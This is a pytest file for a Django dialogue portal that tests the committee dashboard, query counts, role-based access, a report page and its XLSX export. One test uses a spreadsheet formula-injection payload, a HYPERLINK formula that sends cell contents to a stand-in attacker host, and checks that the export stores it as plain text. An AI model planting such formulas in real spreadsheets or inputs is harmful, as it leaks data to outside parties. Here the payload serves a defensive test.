"""The committee dashboard and the consolidated report (step 11), printable and XLSX."""

from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from dialogue import services
from portal.navigation import items_for

pytestmark = pytest.mark.django_db


@pytest.fixture
def some_questions(routed, khtc_responder, committee):
    def _make(n):
        for i in range(n):
            q = routed("hoc-phi", f"Câu hỏi về học phí số {i}")
            if i % 2:
                services.publish_answer(
                    services.answer_question(q, actor=khtc_responder, text=f"Trả lời {i}"),
                    actor=committee,
                )

    return _make


def test_the_dashboard_counts_milestones_questions_and_overdue_departments(
    client, committee, some_questions, plan
):
    from django.utils import timezone

    from dialogue.models import Question

    some_questions(3)
    Question.objects.filter(status="routed").update(
        due_at=timezone.now() - timezone.timedelta(days=1)
    )
    client.force_login(committee)
    response = client.get(reverse("dialogue:dashboard"))
    assert response.status_code == 200
    ctx = response.context
    assert ctx["mcounts"]["total"] == 13
    assert {v: n for v, _l, n in ctx["status_rows"]}["published"] == 1
    assert [row["department__name"] for row in ctx["overdue"]] == ["Phòng Kế hoạch - Tài chính"]
    assert ctx["overdue"][0]["n"] == 2


def test_the_dashboard_reads_a_constant_number_of_queries(
    client, committee, some_questions, django_assert_max_num_queries
):
    some_questions(2)
    client.force_login(committee)
    client.get(reverse("dialogue:dashboard"))  # warm the session and the caches
    with django_assert_max_num_queries(40) as first:
        client.get(reverse("dialogue:dashboard"))
    some_questions(8)
    with django_assert_max_num_queries(len(first.captured_queries)):
        client.get(reverse("dialogue:dashboard"))


def test_only_the_committee_opens_the_dashboard(client, make_user):
    for role in ("leadership", "dialogue_unit", "dialogue_responder", "learner"):
        client.force_login(make_user(role))
        assert client.get(reverse("dialogue:dashboard")).status_code == 404


def test_the_leadership_reads_the_report_grouped_by_topic_with_answers(
    client, make_user, some_questions
):
    some_questions(2)
    client.force_login(make_user("leadership"))
    body = client.get(reverse("dialogue:report")).content.decode()
    assert "BÁO CÁO TỔNG HỢP" in body and "Học phí, lệ phí" in body and "Trả lời 1" in body


def test_the_report_downloads_as_xlsx_with_one_row_per_item(client, committee, some_questions):
    some_questions(3)
    client.force_login(committee)
    response = client.get(reverse("dialogue:report-xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(BytesIO(response.content))
    items = wb.worksheets[0]
    assert items.max_row == 1 + 3
    assert items.cell(row=1, column=4).value == "Câu hỏi hoặc ý kiến"
    assert {items.cell(row=r, column=7).value for r in range(2, 5)} == {
        "Đã công khai",
        "Đang chờ đơn vị trả lời",
    }


def test_a_question_written_as_a_formula_reaches_the_report_as_text(client, committee, routed):
    attack = '=HYPERLINK("http://evil.example/?q="&B2,"Xem chi tiết")'
    routed("hoc-phi", attack)
    client.force_login(committee)
    wb = load_workbook(BytesIO(client.get(reverse("dialogue:report-xlsx")).content))
    cells = [c for row in wb.worksheets[0].iter_rows(min_row=2) for c in row]
    (cell,) = [c for c in cells if c.value == attack]
    assert cell.data_type == "s"


def test_learners_and_visitors_cannot_read_the_report(client, make_user):
    assert client.get(reverse("dialogue:report")).status_code == 302
    client.force_login(make_user("learner"))
    assert client.get(reverse("dialogue:report-xlsx")).status_code == 404


@pytest.mark.parametrize(
    "role, label, url_name",
    [
        ("dialogue_committee", "Committee dashboard", "dialogue:dashboard"),
        ("dialogue_unit", "Unit dialogues", "dialogue:unit-home"),
        ("dialogue_responder", "Questions to answer", "dialogue:responder-queue"),
        ("leadership", "Dialogue reports", "dialogue:report"),
        ("learner", "Ask a question", "dialogue:ask"),
    ],
)
def test_each_roles_navigation_entry_opens_its_page(client, make_user, plan, role, label, url_name):
    user = make_user(role)
    with translation.override("en"):
        entry = next(i for i in items_for(user) if str(i.label) == label)
    assert entry.url == reverse(url_name)
    client.force_login(user)
    assert client.get(entry.url).status_code == 200
